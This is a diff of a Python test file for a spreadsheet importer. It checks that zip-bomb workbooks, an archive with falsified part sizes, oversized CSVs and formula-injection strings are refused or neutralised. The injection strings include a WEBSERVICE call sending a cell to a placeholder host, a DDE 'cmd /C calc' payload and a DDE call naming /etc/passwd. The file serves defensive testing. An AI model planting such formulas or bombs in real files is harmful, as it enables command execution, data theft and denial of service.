@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import io
-import time
-import tracemalloc
+import socket
+import struct
+import subprocess
+import sys
 import zipfile
 from collections.abc import Iterable, Mapping
 from datetime import date
@@ -267,39 +269,99 @@ def workbook(sheet: str, shared: str = "") -> bytes:
     )
 
 
+MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def with_parts(content: bytes, parts: Mapping[str, str]) -> bytes:
+    """An archive in which some parts are others."""
+    with zipfile.ZipFile(io.BytesIO(content)) as whole:
+        kept = {name: whole.read(name) for name in whole.namelist()}
+    return archive({**kept, **parts})
+
+
+def in_excel(sheet: str, shared: str = "") -> bytes:
+    """A whole .xlsx, of which only the sheet and its shared texts are hostile."""
+    parts = {"xl/worksheets/sheet1.xml": f"<worksheet {MAIN}><sheetData>{sheet}</sheetData></worksheet>"}
+    if shared:
+        parts["xl/sharedStrings.xml"] = f"<sst {MAIN}>{shared}</sst>"
+    return with_parts(saved(xlsx([["Les bacs", "Retard", "min", 12, 8, None]])), parts)
+
+
+def in_calc(rows: str) -> bytes:
+    """A whole .ods, of which only the rows are hostile."""
+    with zipfile.ZipFile(io.BytesIO(document(rows))) as made:
+        content = made.read("content.xml").decode()
+    return with_parts(ods(("A", [["Mesure"], ["Retard"]])), {"content.xml": content})
+
+
+def lying(content: bytes) -> bytes:
+    """An archive whose list of parts says that the largest of them is empty."""
+    with zipfile.ZipFile(io.BytesIO(content)) as whole:
+        largest = max(whole.infolist(), key=lambda part: part.file_size)
+    return content.replace(struct.pack("<I", largest.file_size), struct.pack("<I", 10))
+
+
 @cache
 def hostile() -> dict[str, bytes]:
+    """Archives of a few kilobytes that hold more than any table, and other things that grow."""
+    corners = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    text = f'<row><c t="inlineStr"><is><t>{"x" * 100_000_000}</t></is></c></row>'
+    last = '<table:table-cell table:number-columns-repeated="16383"/>' + cell("Cible")
     return {
-        "a million empty rows": workbook("<row/>" * 1_000_000),
-        "a million empty cells": workbook(f"<row>{'<c/>' * 1_000_000}</row>"),
-        "a long text": workbook(f"<row><c t='inlineStr'><is><t>{'x' * 100_000_000}</t></is></c></row>"),
-        "a million texts": workbook("<row><c t='s'><v>0</v></c></row>", "<si><t>x</t></si>" * 1_000_000),
-        "a document's million rows": document(row("<table:table-cell/>") * 500_000),
-        "a document's repeated rows": document(row(cell("Mesure"), repeated=1_000_000)),
-        "a document's repeated cells": document(row(cell("Mesure", 'table:number-columns-repeated="16000"'))),
+        "xlsx: a million empty rows": in_excel("<row/>" * 1_000_000),
+        "xlsx: a million empty cells": in_excel(f"<row>{'<c/>' * 1_000_000}</row>"),
+        "xlsx: a long text": in_excel(text),
+        "xlsx: a long text that says it is short": lying(in_excel(text)),
+        "xlsx: a million texts": in_excel('<row><c t="s"><v>0</v></c></row>', "<si><t>x</t></si>" * 1_000_000),
+        "xlsx: two cells far apart": in_excel(corners),
+        "xlsx: a million merged cells": in_excel('</sheetData><mergeCell ref="A1:XFD1048576"/>' * 400_000),
+        "ods: a million rows": in_calc(row("<table:table-cell/>") * 500_000),
+        "ods: a row a million times": in_calc(row(cell("Mesure"), repeated=1_000_000)),
+        "ods: a cell 16,000 times": in_calc(row(cell("Mesure", 'table:number-columns-repeated="16000"'))),
+        "ods: two cells far apart": in_calc(row(cell("Mesure")) + row("", repeated=1_048_574) + row(last)),
+        "ods: a long text": in_calc(row(cell("x" * 100_000_000))),
+        "ods: a million spaces a million times": in_calc(row(cell('<text:s text:c="1000000"/>') * 100_000)),
         "twenty thousand parts": archive({str(at): "" for at in range(18_000)}),
+        "csv: a million cells": b"a;" * 1_000_000,
+        "csv: a million rows": b"\n" * 2_000_000 + b"a",
+        "csv: a million rows of cells": b"Mesure;Cible\n" + b"a;1\n" * 500_000,
+        "csv: two million quotation marks": b'"' * 2_000_000,
     }
 
 
-def test_an_archive_that_would_grow_is_refused_before_it_does() -> None:
+MEASURED = """
+import resource, sys, time
+from impactlib.domain.spreadsheet import SheetError
+from impactlib.workbooks import read_file
+content = sys.stdin.buffer.read()
+read_file(b"Mesure;Cible\\nRetard;3\\n")
+before, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
+try:
+    print("read", read_file(content).rows)
+except SheetError as error:
+    print("refused", error)
+print(time.process_time() - begun, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
+"""
+
+
+@pytest.mark.process
+@pytest.mark.parametrize("name", hostile())
+def test_what_would_grow_is_refused_within_a_second_and_50_megabytes(name: str) -> None:
+    # A process of its own, which the system ends should it take what it must not.
+    limited = ["prlimit", "--as=1000000000", "--cpu=20", sys.executable, "-c", MEASURED]
+    made = subprocess.run(limited, input=hostile()[name], capture_output=True, check=False)
+    *said, figures = made.stdout.decode().splitlines()
+    seconds, megabytes = map(float, figures.split())
+    assert said[0].startswith(("refused", "read ()")), said
+    assert seconds < 1 and megabytes < 50, (seconds, megabytes)
+
+
+def test_what_would_grow_is_refused_in_both_languages() -> None:
     for name, content in hostile().items():
-        begun = time.process_time()
-        with pytest.raises(SheetError) as refused:
+        try:
             read_file(content)
-        assert time.process_time() - begun < 2, name  # half a second, on a machine that does nothing else
-        assert translation("fr").gettext(refused.value.message) != refused.value.message, name
-
-
-@pytest.mark.parametrize("name", ["a long text", "a million texts", "a document's repeated rows"])
-def test_an_archive_that_would_grow_takes_no_memory(name: str) -> None:
-    content = hostile()[name]
-    tracemalloc.start()
-    try:
-        with pytest.raises(SheetError):
-            read_file(content)
-        assert tracemalloc.get_traced_memory()[1] < 50_000_000
-    finally:
-        tracemalloc.stop()
+        except SheetError as refused:
+            assert translation("fr").gettext(refused.message) != refused.message, name
 
 
 @pytest.mark.parametrize(
@@ -352,6 +414,52 @@ def test_a_formula_is_read_by_its_stored_value_and_no_link_is_followed() -> None
     assert problems(sheet) == ["3 Cible"]
 
 
+CALLING_OUT = (
+    'WEBSERVICE("http://example.invalid/?"&amp;A1)',
+    'HYPERLINK("http://example.invalid/","8")',
+    "[1]Ailleurs!A1",
+    "cmd|' /C calc'!A0",
+    'DDE("soffice";"/etc/passwd";"A1")',
+    'IMPORTXML("http://example.invalid/";"//a")',
+)
+"""Formulas that ask another program, another file or the network for what they show."""
+
+
+@pytest.mark.parametrize("formula", CALLING_OUT)
+def test_a_formula_that_calls_out_is_read_by_its_stored_value_or_told(formula: str, monkeypatch: Any) -> None:
+    def refuses(*_: object, **__: object) -> None:
+        raise AssertionError("something was opened or fetched")
+
+    plain = formula.replace("&amp;", "&")
+    computed = f'table:formula="of:={formula.replace(chr(34), "&quot;")}"'
+    book = xlsx([["Les bacs", f"={plain}", "min", f"={plain}", 8, None]])
+    book.active["C2"].hyperlink = "http://example.invalid/"
+    told = document(
+        row(cell("Mesure"), cell("Cible"), cell("Source"))
+        + row(
+            cell("Retard"),
+            cell("8.5", f'{computed} office:value-type="float" office:value="8.5"'),
+            f"<table:table-cell {computed}/>",
+        )
+    )
+    stored = workbook(
+        '<sheetData><row><c t="str"><v>Mesure</v></c><c t="str"><v>Cible</v></c></row>'
+        f'<row><c t="str"><f>{formula}</f><v>={formula}</v></c><c><f>{formula}</f><v>8.5</v></c></row></sheetData>'
+    )
+    link = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
+    contents = with_parts(saved(book), link), told, stored
+    monkeypatch.setattr(socket, "socket", refuses)
+    monkeypatch.setattr(subprocess, "Popen", refuses)
+    monkeypatch.setattr("builtins.open", refuses)
+    empty, calc, excel = map(read_file, contents)
+    assert problems(empty) == ["2 Mesure", "2 Valeur de départ"]
+    assert [(each.metric, each.target, each.source) for _, each in calc.rows] == [("Retard", "8.5", "")]
+    assert problems(calc) == ["2 Source"]
+    # A text that looks like a formula stays a text, and leaves as one.
+    assert [(each.metric, each.target) for _, each in excel.rows] == [(f"={plain}", "8.5")]
+    assert f'"\'={plain}"'.replace('"', "") in write_csv(["Mesure"], [[f"={plain}"]]).decode().replace('"', "")
+
+
 def test_a_part_that_is_packed_in_another_way_is_refused() -> None:
     content = io.BytesIO()
     with zipfile.ZipFile(content, "w", zipfile.ZIP_LZMA) as file:
@@ -374,3 +482,77 @@ def test_a_csv_is_read_by_the_same_door() -> None:
     assert sheet.problems == (
         Problem(2, "Cible", "This is not a number: write it as 12.5, without words.", "beaucoup"),
     )
+
+
+# Shapes, as workbooks hold them ----------------------------------------------------------------------
+
+
+def table(rows: list[list[Any]], merged: Iterable[str] = (), formats: Mapping[str, str] | None = None) -> Sheet:
+    """What is read of a workbook with such rows, merged cells and formats."""
+    book = openpyxl.Workbook()
+    for each in rows:
+        book.active.append(each)
+    for place, number_format in (formats or {}).items():
+        book.active[place].number_format = number_format
+    for cells in merged:
+        book.active.merge_cells(cells)
+    return read_file(saved(book))
+
+
+def test_headings_merged_over_two_rows_of_a_workbook() -> None:
+    rows: list[list[Any]] = [
+        ["Plan de mesure"],
+        [],
+        ["Hypothèse", "Mesure", "Situation de départ", None, "Cible", None],
+        [None, None, "Valeur", "Date", "Valeur", "Échéance"],
+        ["Les quais sont sûrs", "Chutes", 0.12, date(2026, 1, 15), 0.05, date(2026, 12, 31)],
+        [None, "Blessés", 4, date(2026, 1, 15), 1, date(2026, 12, 31)],
+    ]
+    merged = ("A1:F1", "A3:A4", "B3:B4", "C3:D3", "E3:F3", "A5:A6")
+    sheet = table(rows, merged, {"C5": "0%", "E5": "0%"})
+    assert figures(sheet) == [(5, "%", "12", "5", "2026-12-31"), (6, "", "4", "1", "2026-12-31")]
+    assert {(row.statement, row.baseline_date) for _, row in sheet.rows} == {("Les quais sont sûrs", "2026-01-15")}
+    assert sheet.problems == ()
+
+
+def test_headings_merged_over_two_rows_of_an_open_document() -> None:
+    covered, two = "<table:covered-table-cell/>", 'table:number-rows-spanned="2"'
+    percentage = 'office:value-type="percentage" office:value="0.3"'
+    sheet = read_file(
+        document(
+            row(
+                *(cell("Statement", two), cell("Metric", two)),
+                *(cell("Baseline", 'table:number-columns-spanned="2"'), covered, cell("Target")),
+            )
+            + row(covered, covered, cell("Value"), cell("Date"), cell("Value"))
+            + row(
+                *(cell("Boats leave on time"), cell("Late boats"), cell("12 %")),
+                *(cell("x", 'office:value-type="date" office:date-value="2026-02-01"'), cell("30 %", percentage)),
+            )
+        )
+    )
+    assert figures(sheet) == [(3, "%", "12", "30", "")] and sheet.problems == ()
+    assert sheet.rows[0][1].baseline_date == "2026-02-01"
+
+
+def test_a_list_of_figures_in_a_workbook() -> None:
+    rows: list[list[Any]] = [
+        ["indicateur", "valeur", "unite_mesure", "est_cible", "date"],
+        ["Bacs à l’heure", 0.8, None, False, date(2025, 12, 31)],
+        ["Bacs à l’heure", 0.95, None, True, date(2026, 12, 31)],
+    ]
+    assert figures(table(rows, formats={"B2": "0 %", "B3": "0 %"})) == [(2, "%", "80", "95", "2026-12-31")]
+
+
+def test_metrics_side_by_side_in_a_workbook() -> None:
+    rows: list[list[Any]] = [
+        ["Hypothesis", "Metric 1", "Target 1", "Metric 2", "Target 2"],
+        ["Fewer missed boats", "Missed boats", 3, "Complaints", 0.1],
+    ]
+    assert figures(table(rows, formats={"E2": "0.0%"})) == [(2, "", "", "3", ""), (2, "%", "", "10", "")]
+
+
+def test_units_in_the_formats_of_a_workbook() -> None:
+    rows: list[list[Any]] = [["Mesure", "Cible"], ["Attente", 12.5], ["Coût", 1250]]
+    sheet = table(rows, formats={"B2": '0.0" min"', "B3": "#,##0 [$€-40C]"})
+    assert figures(sheet) == [(2, "", "", "12.5", ""), (3, "€", "", "1250", "")]
